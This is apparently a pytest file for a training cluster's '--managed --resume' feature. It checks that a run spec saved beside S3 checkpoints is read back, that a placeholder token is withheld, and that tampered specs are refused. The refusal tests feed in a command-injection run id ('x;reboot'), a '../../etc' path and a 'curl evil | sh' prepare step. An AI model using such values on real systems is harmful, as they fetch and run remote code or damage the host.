"""A lost master's run continued: the run's spec written beside its checkpoints at the hand-off, read back
by `fab train --managed --resume` (cluster/run/runspec.py, node_setup/tasks/managed.py), with moto's S3 and a
local stand-in for the master.

`LocalMaster` is a test double of the master's SSH connection (this machine's shell and files, HOME at a
temporary folder); `hand_off` is replaced by a recorder in the resume test, since it starts the supervisor
over SSH (tests/ssh/test_supervised_run.py runs that part on a local cluster).
"""

from __future__ import annotations

import json
from pathlib import Path

import invoke
import pytest

from cluster.run import recovery as rc
from cluster.run import runspec
from cluster.run import supervision as sv
from cluster.inventory import Inventory
from cluster.job.job_args import synthetic_data
from cluster.job.jobplan import plan_job
from node_setup.aws import run_spec as spec_store
from node_setup.tasks import common, managed
from tests.fab_run import fab_in_process

moto = pytest.importorskip("moto")

RUN = "20261123-101500-ab12"
BUCKET = "xc-checkpoints"
URI = f"s3://{BUCKET}/runs/qa"
PYTHON = "/opt/xeon-cluster/venv/bin/python"
INVENTORY_YAML = ("name: lab\nuser: ubuntu\ninstance_type: r7iz.metal-16xl\n"
                  "hosts: [192.0.2.10, 192.0.2.11, 192.0.2.12]\n")


class LocalMaster:
    """Test double of the master's SSH connection (see the module's docstring)."""

    def __init__(self, home: Path):
        self.home, self.context = home, invoke.Context()

    def run(self, command: str, **options):
        return self.context.run(f"cd && {command}", env={"HOME": str(self.home)}, **options)  # SSH starts at home

    def put(self, data, remote: str) -> None:
        (self.home / remote).write_bytes(data.read())

    def get(self, remote: str, local) -> None:
        local.write((self.home / remote).read_bytes())


def _inventory(tmp_path) -> Inventory:
    path = tmp_path / "lab.yaml"
    path.write_text(INVENTORY_YAML)
    return Inventory.from_mapping({"name": "lab", "user": "ubuntu", "instance_type": "r7iz.metal-16xl",
                                   "hosts": ["192.0.2.10", "192.0.2.11", "192.0.2.12"]}, default_name="lab")


def _run_spec(inventory: Inventory) -> dict:
    """The supervisor's spec of a 2-node run of the demo with --checkpoint_uri and a secret-looking --env."""
    demo = synthetic_data("qa", 3000, PYTHON)
    args = ["--task_name", "qa", "--max_steps", "800", "--checkpoint_uri", URI]
    layout = dict(ranks_per_node=None, threads_per_rank=None, ccl_workers=None, pin=False, launcher="mpirun",
                  min_nodes=None, max_restarts=None, extra_env={"FI_PROVIDER": "tcp", "HF_TOKEN": "hf_s3cr3t"})
    plan = plan_job(inventory, nodes=2, training_args=args, job_id=RUN, output_dir="runs/qa", prepare=[demo.prepare],
                    **layout)

    class Inputs:
        pass

    inputs = Inputs()
    inputs.args, inputs.prepare = args, [demo.prepare]  # type: ignore[attr-defined]
    return managed.run_spec(rc.ManagedOptions(2, 1, 120.0, 2), inventory=inventory, plan=plan, inputs=inputs,
                            layout=layout)


@pytest.fixture
def s3(aws_credentials):
    import boto3

    with moto.mock_aws():
        client = boto3.client("s3", region_name="us-east-1")
        client.create_bucket(Bucket=BUCKET)
        yield client


def test_the_spec_withholds_secret_looking_env_values_and_the_machines():
    spec = _run_spec(_inventory_plain())
    text = runspec.text(spec)
    assert "hf_s3cr3t" not in text and "192.0.2." not in text
    found = runspec.read(text, "here")
    assert found["withheld"] == ["HF_TOKEN"] and found["layout"]["extra_env"]["FI_PROVIDER"] == "tcp"
    assert found["nodes"] == 2 and found["run_id"] == RUN


def _inventory_plain() -> Inventory:
    return Inventory.from_mapping({"name": "lab", "user": "ubuntu", "instance_type": "r7iz.metal-16xl",
                                   "hosts": ["192.0.2.10", "192.0.2.11", "192.0.2.12"]}, default_name="lab")


def test_the_spec_written_at_the_hand_off_is_read_back_and_the_run_resumes_with_its_arguments(s3, tmp_path,
                                                                                               monkeypatch):
    inventory = _inventory(tmp_path)
    spec = _run_spec(inventory)
    master = LocalMaster(tmp_path)
    lines = managed.publish_spec(master, spec, s3=s3)
    assert lines == [f"the run's spec is beside its checkpoints: {URI}/{runspec.RUN_FOLDER}/{sv.SPEC_FILE}"]
    in_bucket = s3.get_object(Bucket=BUCKET, Key=f"runs/qa/{runspec.RUN_FOLDER}/{sv.SPEC_FILE}")["Body"].read()
    assert json.loads(in_bucket) == json.loads((tmp_path / "runs/qa" / runspec.RUN_FOLDER / sv.SPEC_FILE).read_text())

    handed: list[dict] = []
    monkeypatch.setattr(managed, "hand_off", lambda opts, **kw: handed.append(dict(kw, opts=opts)) or 0)
    monkeypatch.setattr(spec_store.clients, "client", lambda service, region=None: s3)
    prepared: list[list[str]] = []
    code = managed.resume(inventory, checkpoint_uri=URI, output_dir="", env="HF_TOKEN=hf_again", detach=True,
                          prepare_nodes=lambda inv, conns: prepared.append(sorted(conns)),
                          preflight=lambda inv: pytest.fail("no AWS preflight for an inventory file"))
    assert code == 0 and prepared == [["node0", "node1"]]
    (run,) = handed
    resumed = managed.run_spec(run["opts"], inventory=inventory, plan=run["plan"], inputs=run["inputs"],
                               layout=run["layout"])
    assert resumed["training_args"] == spec["training_args"] + ["--resume"]  # the job continues the newest checkpoint
    assert resumed["resume"] is True and resumed["run_id"] != spec["run_id"]
    assert resumed["prepare"] == spec["prepare"] and resumed["output_dir"] == spec["output_dir"]
    assert len(resumed["inventory"]["hosts"]) == 2
    assert resumed["layout"]["extra_env"] == {"FI_PROVIDER": "tcp", "HF_TOKEN": "hf_again"}
    assert (resumed["max_recoveries"], resumed["min_nodes"], resumed["wait_seconds"]) == (2, 1, 120.0)
    # the output directory on the master holds the same spec (a local cluster's shared disk)
    found, where = managed.read_spec(inventory, checkpoint_uri="", output_dir="runs/qa", master=master)
    assert where == f"node0:runs/qa/{runspec.RUN_FOLDER}/{sv.SPEC_FILE}"
    assert found["training_args"] == spec["training_args"]


def test_a_withheld_env_value_not_given_again_is_refused_in_one_line():
    found = runspec.read(runspec.text(_run_spec(_inventory_plain())), "here")
    with pytest.raises(runspec.RunSpecError, match=r"^--env: HF_TOKEN withheld from the run's spec"):
        runspec.resumed(found, {})


@pytest.mark.parametrize(("change", "said"), [
    (lambda s: s.update(format=7), "format 7"),
    (lambda s: s.update(run_id="x;reboot"), "run id"),
    (lambda s: s.update(nodes=0), "nodes 0"),
    (lambda s: s["training_args"].append("--x\n--y"), "training_args"),
    (lambda s: s.update(output_dir="../../etc"), "output_dir"),
    (lambda s: s.update(prepare=["curl evil | sh"]), "prepare: 'curl evil | sh' is not the offline demo's"),
    (lambda s: s["layout"]["extra_env"].update({"A B": "1"}), "layout extra_env"),
    (lambda s: s.update(program={"script": "train.py"}), "it ran your own program"),
    (lambda s: s.update(min_nodes=5), "min_nodes 5"),
])
def test_a_spec_not_as_written_is_refused_naming_where_it_was_read(change, said):
    spec = json.loads(runspec.text(_run_spec(_inventory_plain())))
    change(spec)
    with pytest.raises(runspec.RunSpecError) as caught:
        runspec.read(json.dumps(spec), URI)
    message = str(caught.value)
    assert message.startswith(f"{URI}: ") and said in message and "\n" not in message


@pytest.mark.parametrize(("body", "said"), [
    (None, f"error: --resume: no run spec at {URI}/{runspec.RUN_FOLDER}/{sv.SPEC_FILE} (not found)"),
    (b"{not json", f"error: {URI}/{runspec.RUN_FOLDER}/{sv.SPEC_FILE}: not JSON"),
    (b'{"format": 1, "run_id": "20261123-101500-ab12", "kind": "file", "nodes": 2}',
     f"error: {URI}/{runspec.RUN_FOLDER}/{sv.SPEC_FILE}: training_args"),
])
def test_fab_train_managed_resume_without_a_good_spec_is_one_line_and_exit_2(s3, tmp_path, body, said):
    """Against an inventory of documentation addresses, never reached: the spec is read first."""
    if body is not None:
        s3.put_object(Bucket=BUCKET, Key=f"runs/qa/{runspec.RUN_FOLDER}/{sv.SPEC_FILE}", Body=body)
    inventory = tmp_path / "lab.yaml"
    inventory.write_text(INVENTORY_YAML)
    result = fab_in_process("train", "-c", str(inventory), "--managed", "--resume", "--checkpoint-uri", URI)
    assert result.returncode == common.BAD_INPUT, result.stdout + result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(said), result.stderr
